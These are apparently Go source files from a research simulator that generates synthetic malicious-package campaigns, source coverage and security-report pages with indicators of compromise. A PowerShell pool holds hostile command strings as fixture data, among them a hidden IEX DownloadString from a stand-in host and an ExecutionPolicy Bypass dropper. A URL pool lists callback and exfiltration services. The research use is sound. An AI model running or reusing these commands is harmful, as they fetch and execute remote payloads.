			iocs := reports.IoCSet{}
			nURLs := 1 + rng.Intn(3)
			if c.Kind == attacker.KindFlood {
				nURLs += 2
			}
			for k := 0; k < nURLs && urlCursor < len(urlPool); k++ {
				iocs.URLs = append(iocs.URLs, urlPool[urlCursor])
				urlCursor++
			}
			if rng.Bool(0.35) && ipCursor < len(ipPool) {
				iocs.IPs = append(iocs.IPs, ipPool[ipCursor])
				ipCursor++
			}
			// Hot C2 addresses recur across reports; §V-D saw the same IP
			// up to 23 times, so the recurrence rate is kept low.
			if rng.Bool(0.09) && len(hotIPs) > 0 {
				hot := xrand.Pick(rng, hotIPs)
				hotUsed[hot] = true
				iocs.IPs = append(iocs.IPs, hot)
			}
			if psCursor < len(psPool) && rng.Bool(0.01) {
				iocs.PowerShell = append(iocs.PowerShell, psPool[psCursor])
				psCursor++
			}

			var behaviors []string
			if c.Payload != 0 {
				for _, b := range c.Payload.Behaviors() {
					behaviors = append(behaviors, string(b))
				}
			}
			title := reportTitle(rng, c, ri)
			publishedAt := latest.Add(6 * time.Hour)
			body := reports.Render(rng.Derive(pageURL), title, publishedAt, c.Eco, coords, iocs, behaviors)
			rep := &reports.Report{
				URL:         pageURL,
				Site:        site.name,
				Category:    site.category,
				Title:       title,
				Body:        body,
				Packages:    coords,
				IoCs:        iocs,
				PublishedAt: publishedAt,
			}
			w.Reports = append(w.Reports, rep)

			links := []string{"https://" + site.name + "/index"}
			if prevURL != "" {
				links = append(links, prevURL) // follow-up cites the earlier report
			}
			page := &webworld.Page{
				URL: pageURL, Site: site.name, Title: title, Body: body,
				Links: links, IsReport: true,
			}
			if err := w.Web.AddPage(page); err != nil {
				return fmt.Errorf("report page: %w", err)
			}
			pageLinksBySite[site.name] = append(pageLinksBySite[site.name], pageURL)
			prevURL = pageURL
		}
	}

	// Leftover pool entries are attached to an "IoC dump" appendix report so
	// analysis sees the full Fig. 14 distribution; hot C2 IPs that happened
	// never to be drawn are flushed the same way (every pool indicator was
	// disclosed *somewhere* — the appendix is where).
	var unusedHot []string
	for _, hot := range hotIPs {
		if !hotUsed[hot] {
			unusedHot = append(unusedHot, hot)
		}
	}
	if urlCursor < len(urlPool) || ipCursor < len(ipPool) || psCursor < len(psPool) || len(unusedHot) > 0 {
		site := sites[0]
		iocs := reports.IoCSet{
			URLs:       urlPool[urlCursor:],
			IPs:        append(append([]string(nil), ipPool[ipCursor:]...), unusedHot...),
			PowerShell: psPool[psCursor:],
		}
		c := reported[0]
		coords := []ecosys.Coord{c.Packages[0].Artifact.Coord}
		title := "Quarterly IoC appendix for malicious package campaigns"
		publishedAt := w.Config.CollectAt.AddDate(0, -1, 0)
		body := reports.Render(rng.Derive("appendix"), title, publishedAt, c.Eco, coords, iocs, nil)
		pageURL := "https://" + site.name + "/reports/appendix"
		rep := &reports.Report{
			URL: pageURL, Site: site.name, Category: site.category, Title: title,
			Body: body, Packages: coords, IoCs: iocs,
			PublishedAt: publishedAt,
		}
		w.Reports = append(w.Reports, rep)
		if err := w.Web.AddPage(&webworld.Page{
			URL: pageURL, Site: site.name, Title: title, Body: body,
			Links: []string{"https://" + site.name + "/index"}, IsReport: true,
		}); err != nil {
			return fmt.Errorf("appendix page: %w", err)
		}
		pageLinksBySite[site.name] = append(pageLinksBySite[site.name], pageURL)
	}

	// Site hubs + noise pages.
	for _, site := range sites {
		hubLinks := pageLinksBySite[site.name]
		nNoise := 2 + rng.Intn(5)
		for i := 0; i < nNoise; i++ {
			noise := webworld.NoisePage(rng, site.name, i)
			if err := w.Web.AddPage(noise); err != nil {
				return fmt.Errorf("noise page: %w", err)
			}
			hubLinks = append(hubLinks, noise.URL)
		}
		hub := &webworld.Page{
			URL:   "https://" + site.name + "/index",
			Site:  site.name,
			Title: site.name + " security research blog",
			Body:  "Research on malicious package campaigns in open source registries: " + site.name,
			Links: hubLinks,
		}
		if err := w.Web.AddPage(hub); err != nil {
			return fmt.Errorf("hub page: %w", err)
		}
		// Commercial sites and individual blogs seed the crawl (§III-D).
		if site.category == reports.CategoryCommercial || site.category == reports.CategoryIndividual {
			w.SeedURLs = append(w.SeedURLs, hub.URL)
		}
	}
	sort.Strings(w.SeedURLs)
	sort.Slice(w.Reports, func(i, j int) bool { return w.Reports[i].URL < w.Reports[j].URL })
	return nil
}

type site struct {
	name     string
	category reports.Category
	weight   float64
}

func buildSites(plan reportPlan) []site {
	var out []site
	for _, sp := range plan.sites {
		cat := reports.Category(sp.category)
		for i := 0; i < sp.siteCount; i++ {
			name := fmt.Sprintf("%s%d.example", strings.ToLower(strings.SplitN(cat.String(), " ", 2)[0]), i+1)
			out = append(out, site{
				name:     name,
				category: cat,
				weight:   float64(sp.reportTarget) / float64(sp.siteCount),
			})
		}
	}
	return out
}

func pickSite(rng *xrand.RNG, sites []site) site {
	weights := make([]float64, len(sites))
	for i, s := range sites {
		weights[i] = s.weight
	}
	return sites[rng.WeightedIndex(weights)]
}

// buildURLPool emits the Fig. 14 domain distribution plus a long tail, one
// unique URL per entry.
func buildURLPool(rng *xrand.RNG, plan reportPlan) []string {
	var pool []string
	emit := func(domain string, n int) {
		for i := 0; i < n; i++ {
			pool = append(pool, fmt.Sprintf("https://%s/p/%s%04d", domain, domain[:2], i))
		}
	}
	used := 0
	for _, dw := range plan.domainWeights {
		emit(dw.domain, dw.count)
		used += dw.count
	}
	tail := plan.urlCount - used
	tailDomains := []string{
		"files.pythonhosted.example", "grabify.link", "oastify.com", "pastebin.com",
		"rentry.co", "termbin.com", "webhook.site", "requestbin.example",
	}
	for i := 0; i < tail; i++ {
		d := tailDomains[i%len(tailDomains)]
		pool = append(pool, fmt.Sprintf("https://%s/t/%05d", d, i))
	}
	// Shuffle deterministically so domains interleave across reports.
	rng.Shuffle(len(pool), func(i, j int) { pool[i], pool[j] = pool[j], pool[i] })
	return pool
}

// buildIPPool emits plan.ipCount unique IPs; seven "hot" C2 addresses are
// returned separately and re-appear across many reports (§V-D observed the
// same IP up to 23 times).
func buildIPPool(rng *xrand.RNG, plan reportPlan) (pool, hot []string) {
	hotBases := []string{"46.226", "51.178", "81.24", "141.95", "135.181", "195.201", "5.135"}
	for _, base := range hotBases {
		hot = append(hot, fmt.Sprintf("%s.%d.%d", base, rng.Intn(200)+10, rng.Intn(254)+1))
	}
	n := plan.ipCount - len(hot)
	for i := 0; i < n; i++ {
		pool = append(pool, fmt.Sprintf("%d.%d.%d.%d", 11+rng.Intn(180), rng.Intn(256), rng.Intn(256), 1+rng.Intn(254)))
	}
	return pool, hot
}

func powershellPool(plan reportPlan) []string {
	all := []string{
		"powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
		"powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('hxxp://bad/ps1')\"",
		"powershell -ExecutionPolicy Bypass -File dropper.ps1",
		"powershell -Command Start-Process -FilePath update.exe -WindowStyle Hidden",
	}
	if plan.powershellCount < len(all) {
		return all[:plan.powershellCount]
	}
	return all
}

// selectReportedCampaigns picks the campaigns that security reports cover:
// per ecosystem, the largest campaigns (flood first) up to the Table IX
// subgraph counts.
func (w *World) selectReportedCampaigns(plan reportPlan) []*attacker.Campaign {
	perEco := map[ecosys.Ecosystem]int{
		ecosys.NPM:      plan.npmGroups,
		ecosys.PyPI:     plan.pypiGroups,
		ecosys.RubyGems: plan.rubyGroups,
	}
	var out []*attacker.Campaign
	for eco, n := range perEco {
		cands := make([]*attacker.Campaign, 0)
		for _, c := range w.Campaigns {
			if c.Eco == eco && len(c.Packages) >= 2 {
				cands = append(cands, c)
			}
		}
		sort.Slice(cands, func(i, j int) bool {
			if (cands[i].Kind == attacker.KindFlood) != (cands[j].Kind == attacker.KindFlood) {
				return cands[i].Kind == attacker.KindFlood
			}
			if len(cands[i].Packages) != len(cands[j].Packages) {
				return len(cands[i].Packages) > len(cands[j].Packages)
			}
			return cands[i].ID < cands[j].ID
		})
		if len(cands) > n {
			cands = cands[:n]
		}
		out = append(out, cands...)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// chunkPackages splits a campaign's packages (in release order) into n
// chunks; consecutive chunks share two packages so the campaign's reports
// form one co-existing component (§III-D).
func chunkPackages(c *attacker.Campaign, n int) [][]*attacker.PackageRecord {
	pkgs := append([]*attacker.PackageRecord(nil), c.Packages...)
	sort.Slice(pkgs, func(i, j int) bool { return pkgs[i].ReleasedAt.Before(pkgs[j].ReleasedAt) })
	if n < 1 {
		n = 1
	}
	if n > len(pkgs) {
		n = len(pkgs)
	}
	per := len(pkgs) / n
	var out [][]*attacker.PackageRecord
	for i := 0; i < n; i++ {
		start := i * per
		end := start + per
		if i == n-1 {
			end = len(pkgs)
		}
		chunk := pkgs[start:end]
		if i > 0 && start >= 2 {
			chunk = append(pkgs[start-2:start:start], chunk...) // overlap ties reports together
		}
		out = append(out, chunk)
	}
	return out
}

func reportTitle(rng *xrand.RNG, c *attacker.Campaign, seq int) string {
	templates := []string{
		"Malicious %s packages deliver %s payloads (part %d)",
		"New wave of malicious packages floods the %s registry: %s campaign continues (update %d)",
		"Supply chain attack: %s registry targeted by %s malware, report %d",
		"Hunting malicious %s packages: %s indicators of compromise, volume %d",
	}
	flavor := c.Kind.String()
	if c.Payload != 0 {
		behaviors := c.Payload.Behaviors()
		flavor = string(behaviors[0])
	}
	return fmt.Sprintf(xrand.Pick(rng, templates), c.Eco, flavor, seq+1)
}

func sqrtf(x float64) float64 {
	if x <= 0 {
		return 0
	}
	z := x
	for i := 0; i < 20; i++ {
		z = (z + x/z) / 2
	}
	return z
}
