// Package world builds the complete simulated universe the pipelines run
// against: root registries and their mirror fleets, every attack campaign,
// the ten online sources with calibrated coverage and overlap, and the web of
// security reports. A World is a pure function of Config (seed + scale), so
// every experiment in the repository is reproducible bit-for-bit.
package world

import (
	"time"

	"malgraph/internal/attacker"
	"malgraph/internal/ecosys"
	"malgraph/internal/sources"
)

// Config parameterises world generation. All corpus-size targets follow the
// paper's tables and are multiplied by Scale.
type Config struct {
	Seed  uint64
	Scale float64 // 1.0 reproduces paper-scale sizes (≈24k packages)

	// CollectAt is the instant the collection pipeline runs ("today" in the
	// paper's timeline); mirrors and availability are evaluated here.
	CollectAt time.Time
}

// PaperScale returns the full-size configuration (≈24,356 packages).
func PaperScale() Config { return Config{Seed: 20240404, Scale: 1.0, CollectAt: defaultCollectAt()} }

// SmallScale returns a fast configuration for integration tests (≈1.2k
// packages).
func SmallScale() Config { return Config{Seed: 20240404, Scale: 0.05, CollectAt: defaultCollectAt()} }

func defaultCollectAt() time.Time { return time.Date(2024, 9, 1, 0, 0, 0, 0, time.UTC) }

// WithDefaults fills zero fields.
func (c Config) WithDefaults() Config {
	if c.Scale <= 0 {
		c.Scale = 1.0
	}
	if c.CollectAt.IsZero() {
		c.CollectAt = defaultCollectAt()
	}
	if c.Seed == 0 {
		c.Seed = 20240404
	}
	return c
}

// n scales a paper-count to this world's size (minimum 1 when the paper
// count is positive).
func (c Config) n(paperCount int) int {
	if paperCount <= 0 {
		return 0
	}
	v := int(float64(paperCount)*c.Scale + 0.5)
	if v < 1 {
		v = 1
	}
	return v
}

// nAtLeast scales a paper-count but keeps a statistical floor so that
// down-scaled test worlds retain enough groups for distribution-shape
// assertions; never exceeds the paper count.
func (c Config) nAtLeast(paperCount, floor int) int {
	v := c.n(paperCount)
	if v < floor {
		v = floor
	}
	if v > paperCount {
		v = paperCount
	}
	return v
}

// similarPlan captures Table VI per-ecosystem targets.
type similarPlan struct {
	eco     ecosys.Ecosystem
	groups  int // number of similar-code campaigns
	total   int // total packages across campaigns
	largest int // size of the single largest campaign
}

func (c Config) similarPlans() []similarPlan {
	return []similarPlan{
		{eco: ecosys.NPM, groups: c.n(157), total: c.n(2994), largest: c.n(827)},
		{eco: ecosys.PyPI, groups: c.n(295), total: c.n(4365), largest: c.n(829)},
		{eco: ecosys.RubyGems, groups: c.n(37), total: c.n(83), largest: c.n(6)},
	}
}

// depPlan captures Table VII/VIII per-ecosystem targets. The named specs are
// Table VIII's most-reused dependency packages; the small groups fill the
// remaining subgraph counts.
type depPlan struct {
	eco         ecosys.Ecosystem
	majorSpecs  []attacker.DepSpec // the one large connected subgraph
	bridges     int
	smallGroups int // additional subgraphs with 1 core and few fronts
}

func (c Config) depPlans() []depPlan {
	scaleSpecs := func(specs []attacker.DepSpec) []attacker.DepSpec {
		out := make([]attacker.DepSpec, 0, len(specs))
		for _, s := range specs {
			out = append(out, attacker.DepSpec{Name: s.Name, Fronts: c.n(s.Fronts)})
		}
		return out
	}
	return []depPlan{
		{
			eco: ecosys.NPM,
			majorSpecs: scaleSpecs([]attacker.DepSpec{
				{Name: "util", Fronts: 88}, {Name: "icons", Fronts: 39},
				{Name: "common", Fronts: 4}, {Name: "object-color", Fronts: 3},
				{Name: "settings", Fronts: 3},
			}),
			bridges:     c.n(5),
			smallGroups: c.nAtLeast(21, 4),
		},
		{
			eco: ecosys.PyPI,
			majorSpecs: scaleSpecs([]attacker.DepSpec{
				{Name: "urllib", Fronts: 448}, {Name: "request", Fronts: 124},
				{Name: "urllib3", Fronts: 92}, {Name: "timedelta", Fronts: 75},
				{Name: "values", Fronts: 18}, {Name: "public", Fronts: 14},
				{Name: "pystyle", Fronts: 12}, {Name: "urlsplit", Fronts: 12},
				{Name: "coloram", Fronts: 11}, {Name: "pwd", Fronts: 11},
				{Name: "connection", Fronts: 10}, {Name: "pkgutil", Fronts: 10},
				{Name: "twyne", Fronts: 8}, {Name: "runcmd", Fronts: 8},
				{Name: "docutils", Fronts: 6}, {Name: "seccache", Fronts: 6},
				{Name: "openvc", Fronts: 5}, {Name: "faq", Fronts: 4},
				{Name: "setupcfg", Fronts: 4}, {Name: "exit", Fronts: 4},
				{Name: "load", Fronts: 3}, {Name: "jsfiddle", Fronts: 3},
			}),
			bridges:     c.n(12),
			smallGroups: c.nAtLeast(12, 4),
		},
		{
			eco: ecosys.RubyGems,
			majorSpecs: scaleSpecs([]attacker.DepSpec{
				{Name: "rest-client", Fronts: 32},
			}),
			bridges:     0,
			smallGroups: c.nAtLeast(2, 2),
		},
	}
}

// floodSize is the Feb-2023 PyPI registration-flood size (§III-D / Fig. 7).
func (c Config) floodSize() int { return c.n(5943) }

// Singleton counts per persistence class (chosen so total corpus size lands
// at the Table I total of 24,356 after campaigns).
func (c Config) singletonCounts() (ultra, early, std int) {
	return c.n(1300), c.n(420), c.n(7897)
}

// sourceQuota returns Table I per-source size targets.
func (c Config) sourceQuota() map[sources.ID]int {
	return map[sources.ID]int{
		sources.Backstabber:    c.n(5937),
		sources.Maloss:         c.n(1223),
		sources.MalPyPI:        c.n(2915),
		sources.GitHubAdvisory: c.n(179),
		sources.Snyk:           c.n(1540),
		sources.Tianwen:        c.n(3151),
		sources.DataDog:        c.n(1387),
		sources.Phylum:         c.n(7299),
		sources.Socket:         c.n(664),
		sources.Blogs:          c.n(62),
	}
}

// Report-corpus targets (Table III, Table IX, Fig. 14).
type reportPlan struct {
	totalReports int
	// reported campaign-group counts per ecosystem (Table IX subgraphs)
	npmGroups, pypiGroups, rubyGroups int
	// IoC pool targets (§V-D)
	urlCount, ipCount, powershellCount int
	// Fig. 14 top domains with URL counts
	domainWeights []domainWeight
	// Table III website counts per category
	sites []sitePlan
}

type domainWeight struct {
	domain string
	count  int
}

type sitePlan struct {
	category     int // reports.Category value
	siteCount    int
	reportTarget int
}

func (c Config) reportPlan() reportPlan {
	return reportPlan{
		totalReports:    c.n(1366),
		npmGroups:       c.n(33),
		pypiGroups:      c.n(40),
		rubyGroups:      c.n(9),
		urlCount:        c.n(1449),
		ipCount:         c.n(234),
		powershellCount: min(4, c.n(4)),
		domainWeights: []domainWeight{
			{domain: "bananasquad.ru", count: c.n(453)},
			{domain: "kekwltd.ru", count: c.n(302)},
			{domain: "discord.com", count: c.n(155)},
			{domain: "paste.bingner.com", count: c.n(151)},
			{domain: "python-release.com", count: c.n(37)},
			{domain: "cdn.discordapp.com", count: c.n(29)},
			{domain: "api.telegram.org", count: c.n(26)},
			{domain: "raw.githubusercontent.com", count: c.n(13)},
			{domain: "transfer.sh", count: c.n(7)},
			{domain: "dl.dropbox.com", count: c.n(6)},
		},
		sites: []sitePlan{
			{category: 1, siteCount: 16, reportTarget: c.n(516)}, // technical community
			{category: 2, siteCount: 15, reportTarget: c.n(545)}, // commercial
			{category: 3, siteCount: 4, reportTarget: c.n(143)},  // news
			{category: 4, siteCount: 3, reportTarget: c.n(95)},   // individual
			{category: 5, siteCount: 1, reportTarget: c.n(24)},   // official
			{category: 6, siteCount: 29, reportTarget: c.n(43)},  // other
		},
	}
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}
