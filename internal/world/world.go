package world

import (
	"fmt"
	"time"

	"malgraph/internal/attacker"
	"malgraph/internal/ecosys"
	"malgraph/internal/registry"
	"malgraph/internal/reports"
	"malgraph/internal/sources"
	"malgraph/internal/webworld"
	"malgraph/internal/xrand"
)

// World is the fully built simulated universe.
type World struct {
	Config    Config
	Fleet     *registry.Fleet
	Sources   *sources.Set
	Campaigns []*attacker.Campaign
	Web       *webworld.Web
	Reports   []*reports.Report // ground-truth report corpus
	SeedURLs  []string          // crawl seeds (§III-D step 1)

	// Records indexes every released package by coordinate key.
	Records map[string]*attacker.PackageRecord
	// Primary maps coordinate key → the source that "owns" the package in
	// Table I accounting.
	Primary map[string]sources.ID

	classes classMap // campaign ID → persistence class
}

// Build constructs a world from the configuration. The result is a pure
// function of cfg.
func Build(cfg Config) (*World, error) {
	cfg = cfg.WithDefaults()
	w := &World{
		Config:  cfg,
		Fleet:   registry.NewFleet(),
		Sources: sources.NewSet(),
		Web:     webworld.New(),
		Records: make(map[string]*attacker.PackageRecord),
		Primary: make(map[string]sources.ID),
	}
	rng := xrand.New(cfg.Seed)
	w.buildFleet(rng.Derive("fleet"))

	sim := attacker.NewSimulator(rng.Derive("attacker"), w.Fleet)
	if err := w.buildCampaigns(sim, rng.Derive("campaigns")); err != nil {
		return nil, fmt.Errorf("world campaigns: %w", err)
	}
	for _, c := range w.Campaigns {
		for _, rec := range c.Packages {
			w.Records[rec.Artifact.Coord.Key()] = rec
		}
	}
	if err := w.assignSources(rng.Derive("sources")); err != nil {
		return nil, fmt.Errorf("world sources: %w", err)
	}
	if err := w.buildWeb(rng.Derive("web")); err != nil {
		return nil, fmt.Errorf("world web: %w", err)
	}
	return w, nil
}

// buildFleet creates root registries for all ten ecosystems and the mirror
// fleets of §II-B (5 NPM, 12 PyPI, 6 RubyGems mirrors). Mirror epochs and
// periods are fixed so availability is reproducible.
func (w *World) buildFleet(rng *xrand.RNG) {
	for _, eco := range ecosys.All() {
		w.Fleet.AddRoot(registry.New(eco.String()+"-root", eco))
	}
	day := 24 * time.Hour
	date := func(y, m, d int) time.Time { return time.Date(y, time.Month(m), d, 0, 0, 0, 0, time.UTC) }

	type mirrorSpec struct {
		name   string
		mode   registry.SyncMode
		epoch  time.Time
		period time.Duration
	}
	specs := map[ecosys.Ecosystem][]mirrorSpec{
		ecosys.PyPI: {
			{"pypi-tuna", registry.SyncAccumulate, date(2018, 3, 1), 2 * day},
			{"pypi-aliyun", registry.SyncAccumulate, date(2016, 6, 1), 7 * day},
			{"pypi-douban", registry.SyncAccumulate, date(2017, 1, 15), 30 * day},
			{"pypi-ustc", registry.SyncSnapshot, date(2015, 5, 1), 1 * day},
			{"pypi-tencent", registry.SyncSnapshot, date(2016, 2, 1), 2 * day},
			{"pypi-huawei", registry.SyncSnapshot, date(2017, 8, 1), 3 * day},
			{"pypi-bfsu", registry.SyncSnapshot, date(2018, 1, 1), 4 * day},
			{"pypi-163", registry.SyncSnapshot, date(2018, 9, 1), 5 * day},
			{"pypi-sustech", registry.SyncSnapshot, date(2019, 3, 1), 7 * day},
			{"pypi-rstudio", registry.SyncSnapshot, date(2019, 6, 1), 10 * day},
			{"pypi-unpad", registry.SyncSnapshot, date(2019, 9, 1), 12 * day},
			{"pypi-kakao", registry.SyncSnapshot, date(2019, 11, 1), 14 * day},
		},
		ecosys.NPM: {
			{"npm-taobao", registry.SyncAccumulate, date(2017, 5, 1), 3 * day},
			{"npm-cnpm", registry.SyncAccumulate, date(2018, 2, 1), 14 * day},
			{"npm-aliyun", registry.SyncSnapshot, date(2016, 4, 1), 1 * day},
			{"npm-ustc", registry.SyncSnapshot, date(2017, 10, 1), 5 * day},
			{"npm-huawei", registry.SyncSnapshot, date(2018, 7, 1), 7 * day},
		},
		ecosys.RubyGems: {
			{"gem-taobao", registry.SyncAccumulate, date(2016, 9, 1), 5 * day},
			{"gem-tuna", registry.SyncAccumulate, date(2018, 8, 1), 21 * day},
			{"gem-hust", registry.SyncSnapshot, date(2016, 1, 1), 2 * day},
			{"gem-aliyun", registry.SyncSnapshot, date(2017, 3, 1), 6 * day},
			{"gem-sysu", registry.SyncSnapshot, date(2018, 5, 1), 9 * day},
			{"gem-sdut", registry.SyncSnapshot, date(2019, 1, 1), 12 * day},
		},
	}
	for eco, list := range specs {
		root, _ := w.Fleet.Root(eco)
		for _, s := range list {
			m, err := registry.NewMirror(s.name, root, s.mode, s.epoch, s.period)
			if err != nil {
				// Specs are compile-time constants; a bad one is a
				// programming error worth failing loudly during Build.
				panic(fmt.Sprintf("world: bad mirror spec %s: %v", s.name, err))
			}
			w.Fleet.AddMirror(m)
		}
	}
	_ = rng
}

// Record returns the ground-truth record for a coordinate.
func (w *World) Record(coord ecosys.Coord) (*attacker.PackageRecord, bool) {
	rec, ok := w.Records[coord.Key()]
	return rec, ok
}

// CampaignOf returns the campaign a coordinate belongs to.
func (w *World) CampaignOf(coord ecosys.Coord) (*attacker.Campaign, bool) {
	rec, ok := w.Records[coord.Key()]
	if !ok {
		return nil, false
	}
	for _, c := range w.Campaigns {
		if c.ID == rec.CampaignID {
			return c, true
		}
	}
	return nil, false
}

// TotalPackages returns the number of released packages.
func (w *World) TotalPackages() int { return len(w.Records) }
