package world

import (
	"fmt"
	"sort"
	"time"

	"malgraph/internal/attacker"
	"malgraph/internal/ecosys"
	"malgraph/internal/sources"
	"malgraph/internal/xrand"
)

// assignSources distributes every released package across the ten Table I
// sources: a quota-bounded primary source (whose identity depends on the
// campaign's persistence class, which is what shapes Table V's per-source
// missing rates), plus secondary observers drawn from Table IV's pairwise
// overlap ratios (which is what shapes the overlap matrix and Fig. 6's
// occurrence CDF).
func (w *World) assignSources(rng *xrand.RNG) error {
	quota := w.Config.sourceQuota()
	// Rescale quotas so their sum matches the actual package count (chain
	// bridges and statistical floors perturb the raw totals slightly);
	// proportions — which is what Table I is about — are preserved.
	quotaSum := 0
	for _, q := range quota {
		quotaSum += q
	}
	if total := len(w.Records); quotaSum > 0 && total != quotaSum {
		ids := make([]sources.ID, 0, len(quota))
		for id := range quota {
			ids = append(ids, id)
		}
		sort.Slice(ids, func(i, j int) bool { return ids[i] < ids[j] })
		assigned := 0
		for _, id := range ids {
			scaled := quota[id] * total / quotaSum
			quota[id] = scaled
			assigned += scaled
		}
		for i := 0; assigned < total; i++ { // distribute rounding remainder
			quota[ids[i%len(ids)]]++
			assigned++
		}
	}

	type affinity struct {
		id     sources.ID
		weight float64
	}
	affinities := map[persistClass][]affinity{
		classFlood: {{sources.Phylum, 1}},
		classSimilar: {
			{sources.Backstabber, 0.38}, {sources.MalPyPI, 0.30}, {sources.Maloss, 0.10},
			{sources.DataDog, 0.12}, {sources.Tianwen, 0.06}, {sources.Snyk, 0.03},
			{sources.Phylum, 0.01},
		},
		classDep: {
			{sources.Backstabber, 0.30}, {sources.MalPyPI, 0.22}, {sources.DataDog, 0.10},
			{sources.Tianwen, 0.18}, {sources.Snyk, 0.10}, {sources.Phylum, 0.06},
			{sources.Blogs, 0.04},
		},
		classUltra: {
			{sources.Socket, 0.50}, {sources.Phylum, 0.24}, {sources.Snyk, 0.24},
			{sources.Tianwen, 0.02},
		},
		classEarly: {
			{sources.GitHubAdvisory, 0.42}, {sources.Blogs, 0.12},
			{sources.Backstabber, 0.30}, {sources.Maloss, 0.16},
		},
		classStd: {
			{sources.Tianwen, 0.26}, {sources.Snyk, 0.12}, {sources.Backstabber, 0.22},
			{sources.Maloss, 0.08}, {sources.DataDog, 0.10}, {sources.Phylum, 0.08},
			{sources.MalPyPI, 0.10}, {sources.GitHubAdvisory, 0.004},
			{sources.Blogs, 0.002}, {sources.Socket, 0.01},
		},
	}

	eligible := func(id sources.ID, eco ecosys.Ecosystem) bool {
		if id == sources.MalPyPI {
			return eco == ecosys.PyPI // Mal-PyPI covers only PyPI (§II-B)
		}
		return true
	}

	pickPrimary := func(class persistClass, eco ecosys.Ecosystem) sources.ID {
		cands := affinities[class]
		weights := make([]float64, len(cands))
		hasAny := false
		for i, a := range cands {
			if quota[a.id] > 0 && eligible(a.id, eco) {
				weights[i] = a.weight
				hasAny = true
			}
		}
		if hasAny {
			return cands[rng.WeightedIndex(weights)].id
		}
		// Affinity sources exhausted: fall back proportionally to remaining
		// quota anywhere.
		ids := make([]sources.ID, 0, len(quota))
		for id := range quota {
			ids = append(ids, id)
		}
		sort.Slice(ids, func(i, j int) bool { return ids[i] < ids[j] })
		fallback := make([]float64, len(ids))
		hasAny = false
		for i, id := range ids {
			if quota[id] > 0 && eligible(id, eco) {
				fallback[i] = float64(quota[id])
				hasAny = true
			}
		}
		if !hasAny {
			return sources.Tianwen // quotas exhausted by rounding; overflow here
		}
		return ids[rng.WeightedIndex(fallback)]
	}

	// Deterministic package order: campaigns in creation order.
	for _, c := range w.Campaigns {
		class := w.classes[c.ID]
		if class == 0 {
			return fmt.Errorf("world: campaign %s has no persistence class", c.ID)
		}
		for _, rec := range c.Packages {
			eco := rec.Artifact.Coord.Ecosystem
			primary := pickPrimary(class, eco)
			quota[primary]--
			w.Primary[rec.Artifact.Coord.Key()] = primary
			w.observe(primary, rec)
			for _, sec := range w.secondaries(rng, primary, eco, class) {
				w.observe(sec, rec)
			}
		}
	}
	return nil
}

// observe records a sighting with the source; observation time approximates
// the detection instant (just before takedown, Fig. 1 phase 3).
func (w *World) observe(id sources.ID, rec *attacker.PackageRecord) {
	src := w.Sources.Get(id)
	at := rec.RemovedAt.Add(-1 * time.Hour)
	if at.Before(rec.ReleasedAt) {
		at = rec.ReleasedAt
	}
	src.Observe(rec.Artifact.Coord, at, rec.Artifact)
}

// secondaries draws additional observers for a package given its primary
// source. The probabilities are Table IV pair counts divided by the primary's
// Table I size; each pair rule lives on exactly one side so the matrix is
// generated once. At most three secondaries can fire, matching Fig. 6's
// observation that no package occurs more than four times.
func (w *World) secondaries(rng *xrand.RNG, primary sources.ID, eco ecosys.Ecosystem, class persistClass) []sources.ID {
	var out []sources.ID
	add := func(id sources.ID, p float64) {
		if len(out) >= 3 {
			return
		}
		if id == sources.MalPyPI && eco != ecosys.PyPI {
			return
		}
		if rng.Bool(p) {
			out = append(out, id)
		}
	}
	switch primary {
	case sources.MalPyPI:
		add(sources.Backstabber, 0.99) // B.K integrates Mal-PyPI (2,897/2,915)
		add(sources.Phylum, 0.10)
	case sources.Maloss:
		add(sources.Backstabber, 0.30)
		add(sources.MalPyPI, 0.16)
		add(sources.Tianwen, 0.056)
		add(sources.GitHubAdvisory, 0.005)
		add(sources.Socket, 0.0025)
		add(sources.Blogs, 0.005)
	case sources.Phylum:
		if class == classFlood {
			// Academia archived only a sliver of the 5,943-package flood
			// before takedown (the paper recovers ~12%; its largest similar
			// cluster stays the 829-package wallet campaign, so the flood
			// remnant must stay below that).
			add(sources.Backstabber, 0.06)
			add(sources.MalPyPI, 0.05)
		} else if eco == ecosys.PyPI {
			add(sources.Backstabber, 0.132)
			add(sources.MalPyPI, 0.126)
		} else {
			add(sources.Backstabber, 0.04)
		}
		add(sources.Tianwen, 0.037)
		add(sources.Snyk, 0.0023)
		add(sources.DataDog, 0.002)
	case sources.Tianwen:
		add(sources.Snyk, 0.034)
		add(sources.Backstabber, 0.011)
		add(sources.Socket, 0.0006)
	case sources.Snyk:
		add(sources.Backstabber, 0.002)
	case sources.Socket:
		add(sources.Backstabber, 0.0015)
	case sources.Blogs:
		add(sources.Backstabber, 0.58) // 36/62: blogs' finds end up archived
		add(sources.Maloss, 0.097)
		add(sources.GitHubAdvisory, 0.016)
		add(sources.DataDog, 0.016)
	case sources.DataDog:
		add(sources.Backstabber, 0.005)
		add(sources.MalPyPI, 0.005)
		add(sources.Phylum, 0.011)
	case sources.GitHubAdvisory:
		add(sources.Maloss, 0.034)
	}
	return out
}
