// Package castore is a content-addressed blob store persisted as immutable
// append-only segment files. A blob is an opaque JSON value — an artifact's
// serialised content, a manifest section chunk — keyed by the SHA-256 of
// its bytes (KeyOf), so a blob's key commits to its content: duplicate
// writes dedupe for free, and every read re-verifies the bytes against the
// key.
//
// On-disk layout is one directory of JSON segment files, seg-00000001.json
// upward. A segment is written once — temp file, fsync, rename, directory
// fsync, the same crash discipline as the serve checkpoint's
// writeFileAtomic — and never modified afterwards. A crash mid-write
// leaves only a .castore-* temp file, which Open deletes; a crash
// mid-compaction leaves either the old segments, or the merged segment
// plus some not-yet-unlinked old ones, and because blobs are
// content-addressed the duplicates are harmless: Open keeps the first
// segment that mentions a hash and ignores re-mentions.
//
// Each segment leads with its hash index ahead of the blob bodies, so
// Open recovers the full hash→segment index by decoding only the index
// prefix of each file — opening a large store does not decode artifact
// bodies.
package castore

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"

	"malgraph/internal/wal"
)

// KeyOf returns the content key of a blob: the SHA-256 of its bytes, hex
// encoded. Every blob in the store is addressed — and verified — by it.
func KeyOf(data []byte) string {
	sum := sha256.Sum256(data)
